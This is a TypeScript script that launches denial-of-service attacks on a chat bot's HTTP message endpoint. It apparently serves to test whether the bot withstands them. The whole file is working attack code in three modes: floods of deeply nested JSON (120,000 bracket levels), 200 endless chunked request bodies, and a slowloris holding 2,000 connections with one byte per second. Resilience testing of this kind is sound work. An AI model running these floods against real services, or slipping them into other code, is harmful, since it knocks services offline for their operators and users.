import { connect, type Socket } from 'node:net';

/**
 * Attacks a bot without any token, from a process of its own: `attacker.ts KIND ADDRESS SECONDS`. It says when it has
 * begun and, at the end, how many connections are open; it ends by itself.
 */
const [kind = '', address = '', seconds = '1'] = process.argv.slice(2);
const { hostname, port } = new URL(address);
const until = Date.now() + Number(seconds) * 1_000;
const open = new Set<Socket>();

const head = (more: string): string =>
  `POST /api/messages HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n${more}\r\n\r\n`;

/** A connection to the bot; whatever becomes of it is the bot's choice. */
function dial(begin: (socket: Socket) => void, closed: () => void = () => undefined): void {
  const socket = connect(Number(port), hostname, () => begin(socket));
  open.add(socket);
  socket.resume();
  socket.on('error', () => undefined);
  socket.on('close', () => {
    open.delete(socket);
    if (Date.now() < until) closed();
  });
}

const every = (ms: number, act: () => void): void => void setInterval(act, ms);

const attacks: Record<string, () => void> = {
  /** Fifty times a second an activity that has 240 KB of brackets where an app may put its own data. */
  nested() {
    const levels = 120_000;
    const body = JSON.stringify({
      type: 'message',
      channelId: 'msteams',
      serviceUrl: address,
      from: { id: '29:nobody' },
      recipient: { id: '28:passerelle' },
      conversation: { id: 'a:nobody', conversationType: 'personal' },
      channelData: { tenant: { id: '00000000-0000-0000-0000-00000000000a' }, own: [] },
    }).replace('[]', `${'['.repeat(levels)}${']'.repeat(levels)}`);
    const text = `${head(`content-length: ${body.length}\r\nconnection: close`)}${body}`;
    every(20, () => dial((socket) => socket.write(text)));
  },
  /** Two hundred bodies that never end, as fast as they are taken; a connection that is ended is dialled again. */
  endless() {
    const chunk = `10000\r\n${'x'.repeat(0x1_00_00)}\r\n`;
    const pour = (socket: Socket): void => {
      while (socket.writable && socket.write(chunk));
    };
    const begin = (socket: Socket): void => {
      socket.write(head('transfer-encoding: chunked'));
      socket.on('drain', () => pour(socket));
      pour(socket);
    };
    const again = () => void setTimeout(() => dial(begin, again), 100);
    for (let n = 0; n < 200; n++) dial(begin, again);
  },
  /** Two thousand bodies of which a byte comes every second; nobody is dialled again. */
  slow() {
    for (let n = 0; n < 2_000; n++) dial((socket) => socket.write(head('content-length: 1000')));
    every(1_000, () => {
      for (const socket of open) socket.write(' ');
    });
  },
};

const attack = attacks[kind];
if (!attack) throw new Error(`say which: ${Object.keys(attacks).join(', ')}`);
attack();
const say = (facts: object): boolean => process.stdout.write(`${JSON.stringify(facts)}\n`);
say({ address });
setTimeout(() => {
  say({ open: open.size });
  process.exit();
}, Number(seconds) * 1_000);
